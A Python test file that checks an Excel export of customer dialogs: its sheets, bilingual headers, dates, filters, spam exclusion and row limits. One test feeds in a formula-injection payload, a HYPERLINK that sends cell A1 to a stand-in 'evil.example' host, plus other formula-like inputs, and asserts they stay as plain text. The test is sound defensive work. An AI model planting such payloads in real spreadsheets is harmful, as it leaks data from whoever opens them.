"""The Excel export (reports/xlsx.py) on a real SQLite file, read back with openpyxl: sheets, headers in both
languages, values in the owner's words, real dates and numbers, formula-looking text kept as text, filters,
spam left out, and the bound on rows."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
from openpyxl.worksheet.worksheet import Worksheet

from reports.counts import TagFilter
from reports.i18n import value_label
from reports.periods import parse_period
from reports.xlsx import export_workbook, sheet_name
from tests.seed import BUSINESS, MOSCOW, PRICE, seed_dialog, utc
from tracking.models import AttributionStatus, Channel
from tracking.store.sqlite import SQLiteStore

NOW = utc("2026-12-05 09:00")
NOVEMBER = parse_period("2026-11", MOSCOW, NOW)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def seed(store: SQLiteStore) -> None:
    await seed_dialog(store, utc("2026-11-03 11:05"), contact="+79161112233", name="Анна", channel=Channel.PAID_SOCIAL,
                      source="vk", medium="cpc", campaign="осень", contact_page=PRICE,
                      tags=["qualified"])  # fmt: skip  # 14:05 in Moscow
    await seed_dialog(store, utc("2026-11-10 08:00"), contact="+79161112233", channel=Channel.PAID_SEARCH,
                      source="yandex", campaign="brand", status=AttributionStatus.PROBABLE)  # fmt: skip  # repeat
    await seed_dialog(store, utc("2026-11-12 08:00"), name=HOSTILE, text="@SUM(1+1)", campaign="-2+3",
                      channel=Channel.ORGANIC_SEARCH, source="google")  # fmt: skip
    await seed_dialog(store, utc("2026-11-20 08:00"), name="Спамер", tags=["spam"])
    await seed_dialog(store, utc("2026-10-31 20:00"), name="Октябрь")  # Oct 31 23:00 in Moscow: not November


def rows(sheet: Worksheet) -> list[tuple[object, ...]]:
    return list(sheet.iter_rows(values_only=True))


def by_header(sheet: Worksheet) -> list[dict[str, object]]:
    header, *body = rows(sheet)
    return [dict(zip(map(str, header), row, strict=True)) for row in body if row[0] is not None]


async def test_a_russian_workbook_has_every_sheet_and_the_owners_words(store: SQLiteStore) -> None:
    await seed(store)

    file = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW)

    assert file.filename == "dialogi-2026-11-01..2026-11-30.xlsx" and file.rows == 3 and not file.cut
    book = openpyxl.load_workbook(io.BytesIO(file.data))
    keys = ["summary", "channels", "sheet_sources", "sheet_campaigns", "pages_contact", "pages_landing", "sheet_by_day"]
    assert book.sheetnames == [*(sheet_name("ru", key) for key in keys), "Диалоги"]
    assert book.sheetnames[:4] == ["Сводка", "Каналы", "Источники", "Кампании"]
    dialogs = book["Диалоги"]
    assert dialogs.freeze_panes == "A2"
    assert dialogs.column_dimensions["A"].width > 30  # the dialog id is readable without widening
    header = rows(dialogs)[0]
    assert header[:3] == ("Идентификатор диалога", "Дата и время", "Имя") and "Клиент" in header
    anna, repeat, hostile = by_header(dialogs)  # oldest first; spam and October left out
    assert anna["Дата и время"] == datetime(2026, 11, 3, 14, 5)  # a real date, local time
    assert dialogs.cell(2, 2).is_date and dialogs.cell(2, 2).number_format == "dd.mm.yyyy hh:mm"
    assert anna["Телефон"] == "+7 916 111-22-33"  # as people write it, and text, not a number
    assert anna["Клиент"] == "новый" and repeat["Клиент"] == "повторный"
    assert anna["Канал"] == value_label("ru", "channel", "paid_social") != "paid_social"
    assert anna["Теги"] == "Целевой" and anna["Кампания"] == "осень"
    status = str(header[29])
    assert "по коду" in str(anna[status]) and repeat[status] != "probable"
    assert anna["Сообщений"] == 1 and isinstance(anna["Сообщений"], int)
    # Text that looks like a formula stays text: shown, never run.
    assert hostile["Имя"] == HOSTILE and hostile["Первое сообщение"] == "@SUM(1+1)" and hostile["Кампания"] == "-2+3"
    name_cell = dialogs.cell(4, header.index("Имя") + 1)
    assert name_cell.data_type == "s" and name_cell.value == HOSTILE

    summary = {row[0]: row[1] for row in rows(book["Сводка"]) if row[0]}
    assert summary["Период"] == "1–30 ноя 2026" and summary["Диалоги"] == 3 and summary["Повторные"] == 1
    assert any("спам" in str(key).lower() for key in summary)  # says spam was left out
    channels = by_header(book["Каналы"])
    assert [(r["Канал"], r["Диалоги"]) for r in channels][-1] == ("Всего", 3)
    assert all(isinstance(r["Диалоги"], int) for r in channels)
    by_day = rows(book["По дням"])
    assert by_day[0][:2] == ("День", "Всего") and len(by_day) == 1 + 30
    assert by_day[3][0] == datetime(2026, 11, 3) and by_day[3][1] == 1


async def test_an_english_workbook_speaks_english(store: SQLiteStore) -> None:
    await seed(store)

    file = await export_workbook(store, NOVEMBER, MOSCOW, "en", now=NOW, focus="channels")

    book = openpyxl.load_workbook(io.BytesIO(file.data))
    assert book.sheetnames[:3] == ["Summary", "Channels", "Sources"] and book.sheetnames[-1] == "Dialogs"
    assert book.active is not None and book.active.title == "Channels"  # the sheet of the report asked for
    anna = by_header(book["Dialogs"])[0]
    assert anna["Date and time"] == datetime(2026, 11, 3, 14, 5) and anna["Customer"] == "new"
    assert anna["Tags"] == "Qualified" and anna["Channel"] == value_label("en", "channel", "paid_social")
    assert book["Dialogs"].cell(2, 2).number_format == "yyyy-mm-dd hh:mm"


async def test_filters_and_tags_pick_the_same_dialogs_in_every_sheet(store: SQLiteStore) -> None:
    await seed(store)

    paid = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW, filters={"source": "yandex"})
    spam = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW, tags=TagFilter(only="spam"))
    everything = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW, tags=TagFilter(without=()))

    book = openpyxl.load_workbook(io.BytesIO(paid.data))
    assert [r["Источник"] for r in by_header(book["Диалоги"])] == [value_label("ru", "source", "yandex")]
    assert {r[0]: r[1] for r in rows(book["Сводка"])}["Диалоги"] == 1
    book = openpyxl.load_workbook(io.BytesIO(spam.data))
    assert [r["Имя"] for r in by_header(book["Диалоги"])] == ["Спамер"]
    assert everything.rows == 4


async def test_a_big_period_is_cut_and_says_so(store: SQLiteStore) -> None:
    for day in range(1, 6):
        await seed_dialog(store, utc(f"2026-11-0{day} 08:00"))

    file = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW, max_rows=3)

    assert (file.rows, file.total, file.cut) == (3, 5, True)
    book = openpyxl.load_workbook(io.BytesIO(file.data))
    cut = "Показаны первые 3 из 5 диалогов"
    assert any(cut in str(row[0]) for row in rows(book["Сводка"]))
    dialogs = rows(book["Диалоги"])
    assert len([row for row in dialogs[1:] if row[1] is not None]) == 3 and cut in str(dialogs[-1][0])


async def test_a_comparison_gets_its_own_sheet(store: SQLiteStore) -> None:
    await seed(store)
    october = parse_period("2026-10", MOSCOW, NOW)

    file = await export_workbook(store, NOVEMBER, MOSCOW, "en", now=NOW, compare_with=october, focus="comparison")

    book = openpyxl.load_workbook(io.BytesIO(file.data))
    sheet = book["Comparison"]
    assert book.active is not None and book.active.title == "Comparison"
    header, dialogs, *_ = rows(sheet)
    assert header[1:3] == ("Nov 1–30, 2026", "Oct 1–31, 2026")
    assert dialogs[:4] == ("Dialogs", 3, 1, 2)


async def test_the_team_columns(store: SQLiteStore) -> None:
    """Who took the lead and when, the first reply, the minutes it took and the answer state, in words."""
    await store.reply_seen("test", BUSINESS, utc("2026-11-01 00:00"))
    taken = await seed_dialog(store, utc("2026-11-03 11:05"), name="Анна")  # 14:05 in Moscow
    await store.take_dialog(taken.id, 501, "Мария", utc("2026-11-03 11:06"))
    await store.record_reply(taken.id, utc("2026-11-03 11:09:30"))  # 4.5 minutes on
    await seed_dialog(store, utc("2026-11-04 08:00"), name="Борис")  # nobody took it, nobody answered
    await seed_dialog(store, utc("2026-11-05 08:00"), name="Вера", business_number="+79990000002")  # unknown

    file = await export_workbook(store, NOVEMBER, MOSCOW, "ru", now=NOW)
    english = await export_workbook(store, NOVEMBER, MOSCOW, "en", now=NOW)

    anna, boris, vera = by_header(openpyxl.load_workbook(io.BytesIO(file.data))["Диалоги"])
    assert anna["Кто взял"] == "Мария" and anna["Когда взяли"] == datetime(2026, 11, 3, 14, 6)
    assert anna["Когда ответили"] == datetime(2026, 11, 3, 14, 9, 30)
    assert anna["Первый ответ, мин"] == 4.5 and anna["Ответ"] == "ответили"
    assert (boris["Кто взял"], boris["Первый ответ, мин"], boris["Ответ"]) == (None, None, "без ответа")
    assert vera["Ответ"] == "неизвестно"
    first = by_header(openpyxl.load_workbook(io.BytesIO(english.data))["Dialogs"])[0]
    assert (first["Taken by"], first["First response, min"], first["Answer"]) == ("Мария", 4.5, "answered")
